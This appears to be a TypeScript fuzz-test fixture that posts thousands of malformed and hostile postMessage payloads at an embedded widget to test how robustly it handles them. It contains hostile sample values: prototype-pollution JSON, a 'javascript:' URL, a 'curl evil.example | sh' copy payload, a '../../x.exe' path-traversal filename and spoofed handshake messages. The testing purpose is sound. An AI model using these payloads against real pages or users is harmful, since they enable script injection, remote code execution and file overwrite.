// What an enemy may post, each by a function of a number, as many of one kind differ.

type Make = (id: string, at: number) => unknown;

const signed = { context: 'eyJ9', signature: '0'.repeat(64) };
const polluted = (type: string, id: string): unknown =>
  JSON.parse(
    `{"type":"${type}","messageId":"${id}","__proto__":{"polluted":true,"type":"toast"},"constructor":{"prototype":{"polluted":true}},"data":{"__proto__":{"polluted":true},"text":"x"}}`,
  );
const cyclic: Record<string, unknown> = { type: 'toast', messageId: 'a' };
cyclic['data'] = cyclic;
let deep: unknown = 'x';
for (let depth = 0; depth < 500; depth++) deep = { deep };

/** As the two ends say it, well formed: only who speaks is wrong. */
const talk: [type: string, data: unknown][] = [
  ['toast', { text: 'From the enemy' }],
  ['confirm', { title: 'Send it?' }],
  ['modal', { path: '/enemy', title: 'Homes' }],
  ['close', { value: 1 }],
  ['open-record', { viewType: 'person', recordId: '2', newTab: true }],
  ['open-url', { url: 'javascript:alert(1)' }],
  ['open-url', { url: 'https://evil.example' }],
  ['copy', { text: 'curl evil.example | sh' }],
  ['download', { fileName: '../../x.exe', content: 'x' }],
  ['badge', { text: '99' }],
  ['path', { path: '/evil' }],
  ['unsaved-changes', { hasUnsavedChanges: true }],
  ['resize', { height: 4_000 }],
  ['state', { key: 'k', json: '1' }],
  ['refresh-record', {}],
  ['context', {}],
  ['context', { signed }],
  ['failed', { code: 'signature-mismatch' }],
  ['interactive', {}],
  ['hello', { version: 1, listensTo: ['context', 'environment', 'path'] }],
  ['welcome', { version: 1, capabilities: ['toast', 'copy'], signed, path: '/evil' }],
  [
    'environment',
    {
      theme: 'evil',
      colorScheme: 'dark',
      tokens: {},
      locale: 'en',
      timeZone: 'UTC',
      direction: 'rtl',
      isVisible: true,
      reducedMotion: true,
    },
  ],
];

/** WebKit clones each hole by itself, so whoever posted more would wait, in its own page, for minutes. */
const SPARSE = /Chrome|Firefox/.test(navigator.userAgent) ? 4_000_000_000 : 20_000;

/** No type of it is right. */
const values: ((at: number) => unknown)[] = [
  () => undefined,
  () => null,
  () => true,
  () => Number.NaN,
  () => -0,
  () => 2n ** 64n,
  () => 'toast',
  () => '\ud800\udfff\udc00',
  () => '\u0000\u202e\ufeff',
  () => [],
  () => ['toast', 'messageId', { text: 'x' }],
  () =>
    new Map<unknown, unknown>([
      ['type', 'toast'],
      ['messageId', 'a'],
    ]),
  () => new Set(['toast']),
  () => new Date(Number.NaN),
  () => /(a+)+$/,
  () => new TypeError('toast'),
  () => new ArrayBuffer(8),
  () => new Float64Array(8),
  () => new DataView(new ArrayBuffer(8)),
  () => new Blob(['<script>']),
  () => new String('toast'),
  () => Object(Symbol.iterator.description),
  () => deep,
  () => cyclic,
  () => Array(SPARSE),
  (at) => (at % 40 === 0 ? 'x'.repeat(1_100_000) : 'x'.repeat(501)),
];

const kinds: Make[] = [
  ...talk.map(
    ([type, data]): Make =>
      (messageId) => ({ type, messageId, data }),
  ),
  ...talk.map(
    ([type, data]): Make =>
      (messageId) => ({ type, messageId, ...Object(data) }),
  ),
  ...values.map(
    (make): Make =>
      (_, at) =>
        make(at),
  ),
  ...values.map(
    (make): Make =>
      (messageId, at) => ({ type: talk[at % talk.length]?.[0], messageId, data: make(at) }),
  ),
  ...values.map(
    (make): Make =>
      (messageId, at) => ({ type: make(at), messageId, data: {} }),
  ),
  ...values.map(
    (make): Make =>
      (_, at) => ({ type: 'toast', messageId: make(at), data: { text: 'x' } }),
  ),
  ...values.map(
    (make): Make =>
      (messageId, at) => ({ type: 'toast', messageId, data: { text: make(at), kind: make(at) } }),
  ),
  ...['toast', 'SYNC', 'SYNC_ACK', 'hello', 'context', 'state', '__proto__', 'constructor', 'toString', 'hasOwnProperty'].map(
    (type): Make =>
      (id) =>
        polluted(type, id),
  ),
  (messageId) => ({ type: 'answer', messageId, data: { to: messageId, supported: true, ok: true, value: { isConfirmed: true } } }),
  (messageId) => ({ type: 'SYNC_ACK', messageId, version: '0.9.7', iFrameUrl: location.origin, debugMode: true }),
  (messageId) => ({ type: 'SYNC_ACK', messageId: `${messageId}-check-1`, version: '0.9.7' }),
  // By a getter, which is asked once, on this side.
  (messageId) => ({
    get type() {
      return 'toast';
    },
    messageId,
    data: { text: 'x' },
  }),
];

/** With ports, as those of the handshake have. */
const withPort: Make[] = [
  (messageId) => ({ type: 'SYNC', messageId, hostUrl: location.origin, partnerWidgets: { nonce: messageId, version: 1 } }),
  (messageId) => ({ type: 'SYNC_ACK', messageId, version: '0.9.7', iFrameUrl: location.origin, partnerWidgets: { nonce: messageId } }),
];

/** What no browser sends. */
const unsendable: (() => unknown)[] = [
  () => () => 'toast',
  () => Symbol('toast'),
  () => new Proxy({ type: 'toast', messageId: 'a' }, {}),
  () => new WeakMap(),
  () => Promise.resolve(),
  () => document.body,
  () => window,
  () => ({
    get type() {
      throw new Error('thrown');
    },
  }),
  () => ({ type: 'toast', messageId: 'a', data: { text: () => 'x' } }),
];

export const kindCount = kinds.length + withPort.length;

/** Posts this many, in batches, and gives how many the browser refused besides. */
export async function postHostile(
  post: (message: unknown, transfer: Transferable[]) => void,
  count: number,
  nonce: string,
  onPosted: () => void,
): Promise<number> {
  let refused = 0;
  for (const make of unsendable) {
    try {
      post(make(), []);
    } catch {
      refused++;
    }
  }
  for (let at = 0; at < count; at++) {
    const id = at % 2 ? `${nonce}-${(at % 50) + 1}` : `${at}`;
    // Ports are dear: one message in fifty has one.
    const isWithPort = at % 50 === 0;
    const list = isWithPort ? withPort : kinds;
    const message = list[(isWithPort ? at / 50 : at) % list.length]?.(id, at);
    post(message, isWithPort ? [new MessageChannel().port1] : at % 97 === 0 ? [new ArrayBuffer(16)] : []);
    onPosted();
    if (at % 1_000 === 999) await new Promise((resolve) => setTimeout(resolve));
  }
  return refused;
}
